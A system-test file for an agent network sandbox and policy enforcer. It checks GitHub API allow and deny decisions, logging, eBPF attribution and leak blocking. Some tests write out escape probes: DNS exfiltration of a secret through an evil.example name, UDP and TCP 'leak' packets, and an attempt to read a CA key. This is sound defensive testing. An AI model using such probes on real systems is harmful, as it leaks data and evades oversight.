"""The spine, end to end as root: real sandbox, real nftables, real enforcer, real fake upstream, real DuckDB."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time

import pytest

from tests.system.conftest import TF, Host, new_host

pytestmark = pytest.mark.system

PULLS = "https://api.github.com/repos/acme/widgets/pulls"
REPO = "https://api.github.com/repos/acme/widgets"


def upstream_paths(host: Host) -> list[tuple[str, str]]:
    return [(r["method"], r["path"]) for r in host.outside.received()]


def test_allowed_request_reaches_upstream(host: Host) -> None:
    before = len(host.outside.received())
    r = host.run("curl", "-sS", "-X", "POST", PULLS, "-H", "content-type: application/json", "-d", '{"title":"t"}')
    assert r.returncode == 0, r.stderr
    body = json.loads(r.stdout)
    assert body["fake"] == "upstream" and body["path"] == "/repos/acme/widgets/pulls"
    assert upstream_paths(host)[before:] == [("POST", "/repos/acme/widgets/pulls")]


def test_denied_request_gets_403_json_and_upstream_sees_nothing(host: Host) -> None:
    before = len(host.outside.received())
    r = host.run("curl", "-sS", "-i", "-X", "DELETE", REPO)
    assert r.returncode == 0, r.stderr
    response = r.stdout.split("Connection established\n\n")[-1]  # drop the proxy's CONNECT answer
    head, _, body = response.partition("\n\n")
    assert " 403" in head.splitlines()[0]
    assert "x-trustfence-decision: denied" in head.lower()
    deny = json.loads(body)
    assert deny["action"] == "github.repo.delete" and deny["gateway"] == "Bot" and deny["decision_id"]
    assert deny["allow_with"].startswith("tf permissions set --gateway Bot --connector github")
    assert host.outside.received()[before:] == []


def test_proxy_unaware_client_is_still_decided(host: Host) -> None:
    before = len(host.outside.received())
    ok = host.run("curl", "-sS", "--noproxy", "*", "-i", f"{PULLS}/3")
    no = host.run("curl", "-sS", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}", "-X", "DELETE", REPO)
    assert "x-trustfence-action: github.pr.read" in ok.stdout.lower(), ok.stdout + ok.stderr
    assert no.stdout == "403"
    assert upstream_paths(host)[before:] == [("GET", "/repos/acme/widgets/pulls/3")]


def test_python_requests_with_proxy_variables(host: Host) -> None:
    code = (
        "import requests\n"
        f"a = requests.post('{PULLS}', json={{'title': 'x'}})\n"
        f"d = requests.delete('{REPO}')\n"
        "print(a.status_code, a.headers['X-TrustFence-Action'], d.status_code, d.json()['action'])\n"
    )
    r = host.run("/usr/bin/python3", "-c", code)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == ["201", "github.pr.create", "403", "github.repo.delete"]


def test_unknown_host_has_no_dns_and_ip_literal_is_refused(host: Host) -> None:
    r = host.run("curl", "-sS", "--noproxy", "*", "https://example.org/")
    assert r.returncode != 0 and "resolve" in r.stderr.lower()
    before = len(host.outside.received())
    ip = host.run("curl", "-sk", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}",
                  f"https://{host.outside.addr}/repos/acme/widgets/pulls")
    assert ip.stdout == "403"
    assert host.outside.received()[before:] == []


def test_udp_icmp_and_raw_tcp_reach_nothing_outside(host: Host) -> None:
    """Listeners in the outside namespace see no packet from the agent, whatever it tries."""
    listener = host.outside.spawn(
        [sys.executable, "-c", (
            "import socket, select, sys\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9999))\n"
            "t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
            "t.bind(('0.0.0.0', 2222)); t.listen()\n"
            "i = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
            "print('ready', flush=True)\n"
            "r, _, _ = select.select([u, t, i], [], [], 8)\n"
            "print('GOT', [s.type for s in r] if r else 'nothing', flush=True)\n"
        )], stdout=subprocess.PIPE, text=True)
    assert listener.stdout is not None and listener.stdout.readline().strip() == "ready"
    addr = host.outside.addr
    probe = (
        "import socket\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"for port in (9999, 53, 443): u.sendto(b'leak', ('{addr}', port))\n"
        "try:\n"
        f"    s = socket.create_connection(('{addr}', 2222), timeout=2); s.sendall(b'leak'); s.recv(10)\n"
        "except OSError as e:\n"
        "    print('tcp blocked', type(e).__name__)\n"
    )
    r = host.run("sh", "-c", f"/usr/bin/python3 -c \"{probe}\"; ping -c 2 -W 1 {addr}; echo ping=$?")
    assert "ping=0" not in r.stdout, r.stdout
    out, _ = listener.communicate(timeout=15)
    assert "GOT nothing" in out, f"something reached the outside namespace: {out}"


def test_exit_code_and_stdin_pass_through(host: Host) -> None:
    r = host.run("sh", "-c", "cat; exit 7", input="hello agent\n")
    assert r.returncode == 7
    assert r.stdout == "hello agent\n"


def test_agent_is_unprivileged(host: Host) -> None:
    r = host.run("sh", "-c", "id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; "
                 f"cat {host.home}/ca/mitmproxy-ca.pem >/dev/null 2>&1 && echo KEY-READABLE; "
                 f"ls {host.home} >/dev/null 2>&1 && echo HOME-LISTABLE; true")
    lines = r.stdout.split("\n")
    assert lines[0] != "0"
    assert "CapEff:\t0000000000000000" in r.stdout and "CapBnd:\t0000000000000000" in r.stdout
    assert "NoNewPrivs:\t1" in r.stdout
    assert "KEY-READABLE" not in r.stdout and "HOME-LISTABLE" not in r.stdout


def test_signal_is_forwarded_and_sandbox_removed(host: Host) -> None:
    p = subprocess.Popen([*TF, "run", "--name", "Bot", "--", "sh", "-c",
                          "trap 'echo got-term; exit 5' TERM; echo started; while :; do sleep 0.1; done"],
                         env=host.env, stdout=subprocess.PIPE, text=True)
    assert p.stdout is not None and p.stdout.readline().strip() == "started"
    p.send_signal(signal.SIGTERM)
    assert p.wait(20) == 5
    assert p.stdout.read().strip() == "got-term"
    assert host.leftovers() == []


def test_one_row_per_request_with_action_and_decision(host: Host) -> None:
    seen = {r["seq"] for r in host.logs()}
    host.run("sh", "-c", f"curl -s -o /dev/null {PULLS}; curl -s -o /dev/null -X PUT {PULLS}/9/merge; "
                         f"curl -s -o /dev/null -X POST {REPO}/issues -d '{{}}'")
    time.sleep(0.5)
    new = [r for r in host.logs() if r["seq"] not in seen]
    assert [(r["action"], r["decision"], r["status"]) for r in new] == [
        ("github.pr.list", "allowed", 200),
        ("github.pr.merge", "allowed", 200),
        ("github.issue.create", "denied", 403),
    ]
    assert all(r["gateway"] == "Bot" and r["host"] == "api.github.com" and r["decision_id"] for r in new)


def test_bad_cli_input_exits_2_with_known_names(host: Host) -> None:
    r = host.tf("permissions", "set", "--gateway", "Bot", "--connector", "gitlab", "--action", "*",
                "--decision", "allow")
    assert r.returncode == 2 and "known: github" in r.stderr
    r = host.tf("permissions", "set", "--gateway", "Bot", "--connector", "github", "--action", "github.pr.nuke",
                "--decision", "allow")
    assert r.returncode == 2 and "github.pr.merge" in r.stderr
    r = host.tf("permissions", "set", "--gateway", "Bot", "--connector", "github", "--action", "*",
                "--decision", "maybe")
    assert r.returncode == 2 and "allow, deny" in r.stderr
    r = host.tf("connector", "add", "gitlab")
    assert r.returncode == 2 and "generic, github" in r.stderr
    assert host.tf("no-such-command").returncode == 2
    r = host.tf("daemon")
    assert r.returncode == 2 and "already running" in r.stderr


def test_crashed_daemon_leftovers_are_collected_at_start(tmp_path_factory: pytest.TempPathFactory) -> None:
    tmp = tmp_path_factory.mktemp("crash")
    os.chmod(tmp, 0o711)
    h = new_host(tmp)
    try:
        h.start_daemon()
        agent = subprocess.Popen([*TF, "run", "--name", "Bot", "--", "sh", "-c", "echo up; sleep 60"],
                                 env=h.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert agent.stdout is not None and agent.stdout.readline().strip() == "up"
        assert h.leftovers(), "sandbox should exist while the agent runs"
        pid = int(h.tf("status", "--json").stdout and json.loads(h.tf("status", "--json").stdout)["pid"])
        os.kill(pid, signal.SIGKILL)
        time.sleep(0.5)
        assert h.leftovers(), "a killed daemon cannot clean up: the sandbox stays closed, not removed"
        h.start_daemon()
        assert h.leftovers() == []
        assert agent.wait(20) != 0  # the agent was killed with its sandbox
    finally:
        h.stop_daemon()
        h.outside.stop()
        assert h.leftovers() == []


def test_terminal_passes_through(host: Host) -> None:
    """An interactive agent gets the caller's terminal (script(1) gives this test a real pty)."""
    inner = " ".join([*TF, "run", "--name", "Bot", "--", "sh", "-c",
                      "'test -t 0 && test -t 1 && echo IS-A-TTY; read line; echo got:$line'"])
    r = subprocess.run(["script", "-qec", inner, "/dev/null"], env=host.env, input="typed\n", capture_output=True,
                       text=True, timeout=60)
    assert "IS-A-TTY" in r.stdout, r.stdout + r.stderr
    assert "got:typed" in r.stdout


def test_doctor_checks_every_prerequisite_for_real(host: Host) -> None:
    r = host.tf("doctor", "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    checks = {c["name"]: c for c in json.loads(r.stdout)}
    for name in ("root", "python", "mitmproxy", "nftables", "netns", "cgroup2", "kernel headers", "bcc", "tracefs",
                 "vault key"):
        assert name in checks
    assert all(c["ok"] for c in checks.values() if c["required"])
    assert all(c["fix"] for c in checks.values() if not c["ok"])
    assert not [n for n in os.listdir("/run/netns") if n.startswith("tfdoctor-")]


def test_rows_name_the_process_that_opened_the_connection(host: Host) -> None:
    status = json.loads(host.tf("status", "--json").stdout)
    assert status["ebpf"] == "loaded"
    seen = {r["seq"] for r in host.logs()}
    host.run("curl", "-s", "-o", "/dev/null", f"{PULLS}/5")
    host.run("/usr/bin/python3", "-c", f"import urllib.request as u; u.urlopen('{PULLS}/6')")
    time.sleep(0.5)
    new = [r for r in host.logs() if r["seq"] not in seen]
    assert [(r["path"], r["comm"]) for r in new] == [
        ("/repos/acme/widgets/pulls/5", "curl"), ("/repos/acme/widgets/pulls/6", "python3")]
    assert all(61184 <= r["uid"] <= 65519 and r["pid"] > 1 for r in new)  # a uid of the sandbox's own
    assert new[0]["exe"].endswith("/curl") and "python3" in new[1]["exe"]


def test_ebpf_lock_holds_with_the_nftables_table_deleted(host: Host) -> None:
    """Root deletes the sandbox's nftables table mid-run: the eBPF lock alone still routes everything through
    the enforcer and nothing reaches the outside namespace or a host service."""
    import socket as pysocket

    host_service = pysocket.socket()
    host_service.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_REUSEADDR, 1)
    host_service.bind(("0.0.0.0", 0))
    host_service.listen()
    host_service.settimeout(0.5)
    svc_port = host_service.getsockname()[1]
    udp = host.outside.spawn([sys.executable, "-c", (
        "import socket, select\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9998))\n"
        "print('ready', flush=True)\n"
        "r, _, _ = select.select([u], [], [], 15)\n"
        "print('GOT' if r else 'nothing', flush=True)\n")], stdout=subprocess.PIPE, text=True)
    assert udp.stdout is not None and udp.stdout.readline().strip() == "ready"
    before = len(host.outside.received())
    script = (
        "echo $TF_SANDBOX; read go; "
        f"curl -s --noproxy '*' -o /dev/null -w 'allowed=%{{http_code}}\\n' {PULLS}/8; "
        f"curl -s --noproxy '*' -o /dev/null -w 'denied=%{{http_code}}\\n' -X DELETE {REPO}; "
        "/usr/bin/python3 -c \"import socket\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        f"    u.sendto(b'leak', ('{host.outside.addr}', 9998)); print('udp=sent')\n"
        "except OSError as e:\n"
        "    print('udp=refused')\n"
        "gw = open('/etc/resolv.conf').read().split()[1]\n"
        "try:\n"
        f"    s = socket.create_connection((gw, {svc_port}), timeout=3); s.sendall(b'x'); print('svc=', s.recv(5))\n"
        "except OSError as e:\n"
        "    print('svc=blocked')\n\""
    )
    p = subprocess.Popen([*TF, "run", "--name", "Bot", "--", "sh", "-c", script], env=host.env,
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert p.stdout is not None and p.stdin is not None
        sandbox = p.stdout.readline().strip()
        assert sandbox.startswith(host.tag)
        subprocess.run(["nft", "delete", "table", "inet", sandbox], check=True, timeout=10)
        p.stdin.write("go\n")
        p.stdin.flush()
        out, err = p.communicate(timeout=60)
    finally:
        p.kill()
    assert "allowed=200" in out and "denied=403" in out, out + err
    assert "svc=blocked" in out or "svc= b''" in out, out
    try:
        conn, _ = host_service.accept()
        conn.close()
        reached = True
    except TimeoutError:
        reached = False
    host_service.close()
    assert not reached, "a host service was reached from the sandbox"
    assert upstream_paths(host)[before:] == [("GET", "/repos/acme/widgets/pulls/8")]
    udp_out, _ = udp.communicate(timeout=30)
    assert "nothing" in udp_out


def test_every_dns_query_is_a_row_and_exfiltration_is_flagged(host: Host) -> None:
    seen = {r["seq"] for r in host.logs()}
    secret = "k3J9xQ2mZp8LwR4tVb7N"
    r = host.run("sh", "-c", f"getent ahostsv4 api.github.com; getent hosts {secret}.evil.example; echo rc=$?")
    assert "rc=2" in r.stdout  # the secret-bearing name does not resolve
    assert [ln for ln in r.stdout.splitlines() if "STREAM" in ln][0].split()[0].startswith("10.201.")
    time.sleep(0.5)
    new = [x for x in host.logs() if x["seq"] not in seen and x["scheme"] == "dns"]
    github = [x for x in new if x["host"] == "api.github.com" and x["action"] == "dns.a"]
    assert github and github[0]["decision"] == "allowed" and github[0]["connector"] == "github"
    evil = [x for x in new if x["host"].startswith(secret.lower())]
    assert evil and all(x["decision"] == "denied" and x["status"] == 3 for x in evil)  # NXDOMAIN
    assert all("likely exfiltration: high-entropy label" in x["reason"] for x in evil)
    assert all(x["gateway"] == "Bot" for x in new)
    # attributed to the process that asked: the eBPF lock files each DNS datagram's sender by source port
    assert all(x["comm"] == "getent" and x["pid"] and x["uid"] not in (None, 0) for x in new), new
    # a resolver asking A and AAAA from one socket: both rows name it, not only the first
    seen |= {x["seq"] for x in new}
    r = host.run("/usr/bin/python3", "-c", "import socket; socket.getaddrinfo('api.github.com', 443)")
    assert r.returncode == 0, r.stderr
    time.sleep(0.5)
    both = [x for x in host.logs() if x["seq"] not in seen and x["scheme"] == "dns"]
    assert {x["action"] for x in both} >= {"dns.a", "dns.aaaa"}, both
    assert all(x["comm"] == "python3" and x["pid"] for x in both), both


def test_client_with_its_own_ca_bundle_works_unchanged_and_the_host_bundle_is_untouched(host: Host) -> None:
    system = "/etc/ssl/certs/ca-certificates.crt"
    before = open(system, "rb").read()
    r = host.run("sh", "-c", f"env -u SSL_CERT_FILE -u CURL_CA_BUNDLE -u REQUESTS_CA_BUNDLE curl -sS --cacert {system} "
                 f"-o /dev/null -w '%{{http_code}}' {PULLS}; echo; touch {system} 2>&1 || true")
    assert r.stdout.startswith("200"), r.stdout + r.stderr  # the carried bundle trusts the enforcer inside
    assert "Read-only file system" in r.stdout or "Permission denied" in r.stdout
    assert open(system, "rb").read() == before  # covered only in the agent's mount namespace
